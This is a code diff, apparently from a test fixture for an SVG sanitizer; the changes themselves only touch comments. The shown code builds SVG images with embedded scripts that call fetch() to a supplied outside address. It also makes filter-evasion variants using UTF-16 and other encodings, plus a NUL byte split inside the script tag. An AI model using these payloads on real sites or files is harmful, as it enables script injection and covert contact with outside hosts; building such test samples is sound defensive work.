@@ -1,13 +1,12 @@
 /**
- * Drawings that run a script, or ask another site for something, when a browser opens them as they are. `OUT` stands for
- * the address of the other site, `RUN` for a script that asks it.
+ * Drawings that run a script or contact another site when a browser opens them. `OUT` stands for the address
+ * of that site, `RUN` for a script that contacts it.
  */
 
 const head = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
 const more = `${head} xmlns:s="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"`;
 const big = 'width="300" height="300"';
 
-/** A drawing with something in it. */
 export function drawing(inner: string, attributes = '', before = ''): string {
   return `${before}<svg ${more} ${big} ${attributes}>${inner}<rect width="9" height="9"/></svg>`;
 }
@@ -190,7 +189,7 @@ const utf16 = (text: string, swap: boolean): Buffer => {
 const evil = drawing('<script>RUN</script>');
 const encoded = (name: string): string => `<?xml version="1.0" encoding="${name}"?>`;
 
-/** The same in other encodings, in which a search for letters finds nothing. */
+/** In other encodings, which hide the letters from a search. */
 const ENCODED: Readonly<Record<string, (fill: (text: string) => string) => Buffer>> = {
   'UTF-16, little end first': (fill) => utf16(fill(evil), false),
   'UTF-16, big end first': (fill) => utf16(fill(evil), true),
@@ -202,11 +201,7 @@ const ENCODED: Readonly<Record<string, (fill: (text: string) => string) => Buffe
   'UTF-8 with a NUL': (fill) => Buffer.from(fill(drawing('<scr\0ipt>RUN</scr\0ipt>'))),
 };
 
-/**
- * Every attack by name.
- *
- * @param out address of the other site
- */
+/** @param out address of the other site */
 export function attacksOn(out: string): [name: string, bytes: Buffer][] {
   const fill = (text: string): string => {
     return text.replaceAll('RUN', `fetch('${out}')`).replaceAll('OUT', out);
